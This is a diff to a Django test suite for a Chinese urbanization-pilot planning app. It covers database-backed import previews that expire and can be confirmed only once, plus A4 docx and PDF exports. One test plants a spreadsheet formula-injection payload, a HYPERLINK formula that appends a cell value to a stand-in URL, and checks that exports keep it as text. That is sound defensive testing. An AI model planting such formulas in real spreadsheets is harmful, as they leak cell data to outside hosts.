@@ -16,7 +16,7 @@ from openpyxl import Workbook, load_workbook
 from shidian.accounts.models import User
 from shidian.core.errors import DomainError, ImportRejected
 from shidian.plans import services, workbook
-from shidian.plans.models import Milestone, PlanVersion, Task
+from shidian.plans.models import Milestone, PendingPlanImport, PlanVersion, Task
 from shidian.plans.tests import factories
 
 pytestmark = pytest.mark.django_db
@@ -138,8 +138,17 @@ def test_import_through_the_pages_previews_then_confirms(client_as: Callable[[st
     response = client.post(url, {"file": SimpleUploadedFile("plan.xlsx", content)})
     assert 'data-testid="import-preview"' in response.content.decode()
     assert version.tasks.count() == 0  # nothing written at preview
-    response = client.post(url, {"confirm": "1"})
+    pending = response.context["pending"]
+    # The file waits in the database with an expiry, not in the session.
+    assert not any(isinstance(v, dict) and "content" in v for v in dict(client.session).values())
+    assert bytes(PendingPlanImport.objects.get(pk=pending.pk).content) == content
+    response = client.post(url, {"confirm": "1", "import_id": pending.pk})
     assert response.status_code == 302
+    assert version.tasks.count() == 1
+    applied = PendingPlanImport.objects.get(pk=pending.pk)
+    assert applied.applied_at is not None and bytes(applied.content) == b""
+    # A confirmed file cannot be confirmed again.
+    client.post(url, {"confirm": "1", "import_id": pending.pk})
     assert version.tasks.count() == 1
     bad = client.post(url, {"file": SimpleUploadedFile("plan.xlsx", _bad_workbook())})
     assert 'data-testid="import-errors"' in bad.content.decode()
@@ -151,12 +160,63 @@ def test_docx_export_reads_back_with_east_asian_fonts(client_as: Callable[[str],
     response = client_as("demo-province").get(reverse("plans:export_docx", kwargs={"pilot_id": plan.pilot_id}))
     assert response.status_code == 200
     document = Document(io.BytesIO(response.content))
-    texts = [p.text for p in document.paragraphs]
-    assert texts[0] == "柳州市国家新型城镇化综合试点工作方案"
-    title_run = document.paragraphs[0].runs[0]
+    paragraphs = [p for p in document.paragraphs if p.text.strip()]
+    assert paragraphs[0].text == "柳州市国家新型城镇化综合试点工作方案"
+    title_run = paragraphs[0].runs[0]
+    section = document.sections[0]
+    assert section.page_width is not None and abs(section.page_width.mm - 210) < 0.5  # A4, not US Letter
+    assert section.page_height is not None and abs(section.page_height.mm - 297) < 0.5
+    assert "PAGE" in section.footer._element.xml and "PAGE" in section.even_page_footer._element.xml
     assert title_run._element.get_or_add_rPr().get_or_add_rFonts().get(qn("w:eastAsia")) == "方正小标宋简体"
     cells = [c.text for row in document.tables[0].rows for c in row.cells]
     assert "测试任务1" in cells and "　节点1-2" in cells
     xlsx = client_as("demo-province").get(reverse("plans:export_xlsx", kwargs={"pilot_id": plan.pilot_id}))
     assert load_workbook(io.BytesIO(xlsx.content))["任务"]["B2"].value == "测试任务1"
     assert PlanVersion.objects.get(pk=version.pk).status == "draft"
+
+
+def test_formula_looking_and_control_characters_stay_text_in_plan_exports(client_as: Callable[[str], Client]) -> None:
+    plan, _version, tasks, _ms = factories.make_plan(tasks=1, milestones=1)
+    formula = '=HYPERLINK("http://example.invalid/?d="&B3,"点此查看详情")'
+    Task.objects.filter(pk=tasks[0].pk).update(title=formula + "\x01\x0b")
+    client = client_as("demo-province")
+    xlsx = client.get(reverse("plans:export_xlsx", kwargs={"pilot_id": plan.pilot_id}))
+    assert xlsx.status_code == 200
+    cell = load_workbook(io.BytesIO(xlsx.content))["任务"]["B2"]
+    assert cell.data_type == "s" and cell.value.startswith("=HYPERLINK")  # a string, not a formula
+    docx = client.get(reverse("plans:export_docx", kwargs={"pilot_id": plan.pilot_id}))
+    assert docx.status_code == 200
+    cells = [c.text for row in Document(io.BytesIO(docx.content)).tables[0].rows for c in row.cells]
+    assert any(text.startswith("=HYPERLINK") for text in cells)
+
+
+def test_pdf_export_is_the_plan_laid_out_on_a4(client_as: Callable[[str], Client]) -> None:
+    from pypdf import PdfReader
+
+    plan, _version, _tasks, _ms = factories.make_plan(tasks=1, milestones=1)
+    response = client_as("demo-province").get(reverse("plans:export_pdf", kwargs={"pilot_id": plan.pilot_id}))
+    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
+    reader = PdfReader(io.BytesIO(response.content))
+    page = reader.pages[0]
+    assert abs(float(page.mediabox.width) - 595.3) < 1 and abs(float(page.mediabox.height) - 841.9) < 1
+    text = "".join(p.extract_text() for p in reader.pages).replace("\n", "")
+    assert "柳州市国家新型城镇化综合试点工作方案" in text and "测试任务1" in text and "— 1 —" in text
+
+
+def test_an_expired_preview_cannot_be_confirmed(client_as: Callable[[str], Client]) -> None:
+    from django.core.files.uploadedfile import SimpleUploadedFile
+    from django.utils import timezone
+
+    plan, version, _tasks, _ms = factories.make_plan(tasks=1, milestones=2)
+    content = workbook.export_xlsx(version=version)
+    services.delete_task(task=version.tasks.get(), by=factories.officer_for(plan.pilot))
+    client = client_as("demo-pilot")
+    url = reverse("plans:import", kwargs={"pilot_id": plan.pilot_id})
+    pending = client.post(url, {"file": SimpleUploadedFile("plan.xlsx", content)}).context["pending"]
+    assert pending.expires_at > timezone.now()
+    PendingPlanImport.objects.filter(pk=pending.pk).update(expires_at=timezone.now() - dt.timedelta(seconds=1))
+    response = client.post(url, {"confirm": "1", "import_id": pending.pk}, follow=True)
+    assert "预览已失效" in response.content.decode()
+    assert version.tasks.count() == 0
+    assert client.post(url, {"confirm": "1", "import_id": "x"}).status_code == 302
+    assert version.tasks.count() == 0
